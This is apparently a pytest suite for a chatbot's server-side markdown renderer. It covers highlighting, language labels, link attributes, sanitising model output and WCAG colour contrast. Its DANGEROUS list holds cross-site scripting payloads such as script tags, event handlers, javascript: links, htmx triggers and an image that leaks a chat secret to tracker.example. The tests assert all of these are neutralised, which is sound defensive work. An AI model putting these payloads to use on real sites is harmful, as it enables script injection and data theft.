"""Markdown rendered on the server, code highlighted and labelled, everything sanitised."""
import re
from html.parser import HTMLParser

import pytest

from chatbot.rendering import MARKDOWN, pygments_css, render_markdown
from chatbot.store import COMPLETE
from tests.conftest import new_chat


def test_markdown_is_rendered():
    html = render_markdown("**bold** and *it*\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |")
    assert "<strong>bold</strong>" in html and "<em>it</em>" in html
    assert "<li>one</li>" in html and "<td>1</td>" in html


def test_code_blocks_are_highlighted_with_classes_not_styles():
    html = render_markdown("```python\ndef f(x):\n    return x\n```")
    assert '<pre class="highlight" data-language="python"><code class="language-python">' in html
    assert '<span class="k">def</span>' in html and "style=" not in html


def test_unknown_language_is_labelled_plain_escaped_code():
    html = render_markdown("```nosuchlang\n<b>x</b>\n```")
    assert '<pre class="highlight" data-language="nosuchlang"><code class="language-nosuchlang">' in html
    assert "&lt;b&gt;x&lt;/b&gt;" in html and "<b>" not in html and "<span" not in html


@pytest.mark.parametrize("language", ["c++", "c#", "objective-c", "python3", "x86_64.asm", "a" * 30])
def test_safe_language_names_label_the_block(language):
    html = render_markdown(f"```{language}\nx\n```")
    assert f'<pre class="highlight" data-language="{language}"><code class="language-{language}">' in html


@pytest.mark.parametrize("info", ['x"onclick=alert(1)', "x'y", "<b>", "a" * 31, "java&script", "a/b", "é"])
def test_unsafe_language_names_give_no_label_and_no_highlighting(info):
    html = render_markdown(f"```{info}\nprint(1)\n```")
    assert html == '<pre class="highlight"><code>print(1)\n</code></pre>\n'


def test_every_code_block_wears_the_code_colours():
    for source in ("```\nplain\n```", "    indented\n", "~~~python\nx\n~~~"):
        assert render_markdown(source).startswith('<pre class="highlight"'), source


def test_reference_definitions_are_literal_text():
    """Off, so a definition later in a reply cannot change a block already shown while streaming."""
    html = render_markdown("See [a].\n\n[a]: http://x")
    assert "<a" not in html and "See [a].</p>" in html and "[a]: http://x" in html
    assert "<a" not in render_markdown("[a]: http://x\n\n[a]")
    assert '<a href="http://x"' in render_markdown("[a](http://x)")  # inline links still work
    assert MARKDOWN.render("[a]: http://x\n\n[a]") == "<p>[a]: http://x</p>\n<p>[a]</p>\n"


def test_links_are_safe():
    html = render_markdown("[docs](https://example.com)")
    assert 'href="https://example.com"' in html and 'rel="noopener noreferrer nofollow"' in html


DANGEROUS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "![x](https://tracker.example/leak?chat=secret)",
    '<div hx-get="/logout" hx-trigger="load">x</div>',
    '<a href="/x" hx-post="/chats" data-hx-post="/chats">x</a>',
    "<iframe src=https://evil.example></iframe>",
    '<p style="position:fixed">x</p>',
    "<svg onload=alert(1)>",
    "```html\n</code></pre><script>alert(1)</script>\n```",
]


@pytest.mark.parametrize("source", DANGEROUS)
def test_dangerous_input_never_becomes_markup(source):
    for tag, attributes in elements(render_markdown(source)):
        assert tag in {"p", "a", "pre", "code", "span"}, tag
        for name, value in attributes:
            assert name in {"href", "rel", "class", "data-language"}, name
            assert not (value or "").strip().lower().startswith("javascript:")
            assert (value or "").startswith(("http", "/", "noopener", "language-", "highlight")) or \
                name == "class" or (name == "data-language" and re.fullmatch(r"[\w+#.-]{1,30}", value))


def elements(html):
    """Every (tag, attributes) the browser would build from ``html``."""
    found = []

    class Collector(HTMLParser):
        def handle_starttag(self, tag, attrs):
            found.append((tag, attrs))
    Collector().feed(str(html))
    return found


def test_model_output_is_sanitised_on_the_page(client, auth, store):
    auth.signup()
    chat_id = new_chat(client)
    owner = store.user_by_email("ada@example.com").id
    store.add_message(owner, chat_id, "assistant", '<script>alert("x")</script> <b hx-get="/x">hi</b> **ok**', COMPLETE)
    html = client.get(f"/chats/{chat_id}").text
    start = html.index('<div class="message-text markdown">')
    section = html[start:html.index("</div>", start)]  # the model's words, as rendered
    assert "<strong>ok</strong>" in section and "&lt;script&gt;" in section
    tags = {tag for tag, _ in elements(section)}
    assert "script" not in tags and "b" not in tags
    assert not any(name.startswith("hx-") for _, attributes in elements(section) for name, _ in attributes)


def test_user_messages_are_shown_as_typed(client, auth, store):
    auth.signup()
    chat_id = new_chat(client)
    client.post(f"/chats/{chat_id}/messages", data={"content": "<em>not emphasis</em> **not bold**"})
    html = client.get(f"/chats/{chat_id}").text
    assert "&lt;em&gt;not emphasis&lt;/em&gt; **not bold**" in html


def luminance(hex_colour):
    """WCAG 2 relative luminance, computed here apart from the code under test."""
    digits = hex_colour.lstrip("#")
    digits = "".join(c * 2 for c in digits) if len(digits) == 3 else digits
    channels = [int(digits[i:i + 2], 16) / 255 for i in (0, 2, 4)]
    r, g, b = [c / 12.92 if c <= 0.04045 else ((c + 0.055) / 1.055) ** 2.4 for c in channels]
    return 0.2126 * r + 0.7152 * g + 0.0722 * b


def contrast(a, b):
    high, low = sorted((luminance(a), luminance(b)), reverse=True)
    return (high + 0.05) / (low + 0.05)


def schemes():
    """{"light"|"dark": {selector: {property: value}}} from the generated stylesheet."""
    light, dark = re.sub(r"/\*.*?\*/", "", pygments_css()).split("@media (prefers-color-scheme: dark) {")
    return {name: {selector.strip(): dict(part.split(": ", 1) for part in body.strip().split("; ") if part)
                   for selector, body in re.findall(r"([^{}]+)\{([^}]*)\}", css)}
            for name, css in (("light", light), ("dark", dark))}


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_every_code_colour_meets_wcag_aa_on_its_background(scheme):
    rules = schemes()[scheme]
    background = rules[".highlight"]["background"]
    assert (luminance(background) > 0.5) == (scheme == "light")
    checked = 0
    for selector, declarations in rules.items():
        assert selector.startswith(".highlight"), selector
        colour = declarations.get("color", "inherit")
        if colour == "inherit":
            continue
        behind = declarations.get("background-color", background)
        assert contrast(colour, behind) >= 4.5, (scheme, selector, colour, behind)
        checked += 1
    assert checked > 40


def test_the_dark_scheme_restyles_every_class_the_light_one_styles():
    """No light-theme colour or weight shows through in dark mode."""
    light, dark = schemes()["light"], schemes()["dark"]
    for selector, declarations in light.items():
        assert set(declarations) <= set(dark[selector]), selector
